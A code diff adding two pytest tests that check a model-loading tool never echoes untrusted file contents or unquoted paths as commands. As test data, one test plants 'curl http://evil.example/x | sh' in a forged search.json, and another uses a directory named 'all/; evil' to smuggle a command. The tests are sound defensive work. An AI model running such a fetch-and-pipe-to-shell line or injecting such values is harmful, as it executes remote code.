@@ -236,6 +236,23 @@ def test_models_of_data_that_is_only_assumed_are_loaded_by_what_it_has(monkeypat
     assert load_models("narrow")[0](torch.zeros(1, 1, 8, 8)).shape == (1, 10)
 
 
+def test_folder_of_a_search_has_nothing_of_its_file_shown_as_a_command(capsys: pytest.CaptureFixture[str]) -> None:
+    Path("forged").mkdir()
+    Path("forged/config.yaml").write_text("space: {}\nexperiment: search_digits\n")
+    evil = "curl http://evil.example/x | sh"
+    Path("forged/search.json").write_text(json.dumps({"status": f"done; {evil}", "best": {"command": evil}}))
+    assert main(["models=[forged]"]) == 2
+    said = capsys.readouterr().err
+    assert "evil" not in said
+    assert "forged is a search without a best model (not finished); the files of its best trial are not th" in said
+
+
+def test_path_of_a_model_is_quoted_where_it_is_shown_to_be_given(capsys: pytest.CaptureFixture[str]) -> None:
+    shutil.copytree("wide", "all/; evil")
+    assert main(["models=[all]"]) == 2
+    assert "as models=['all/; evil'], the newest beneath it" in capsys.readouterr().err
+
+
 @pytest.mark.parametrize(
     ("paths", "message"),
     [
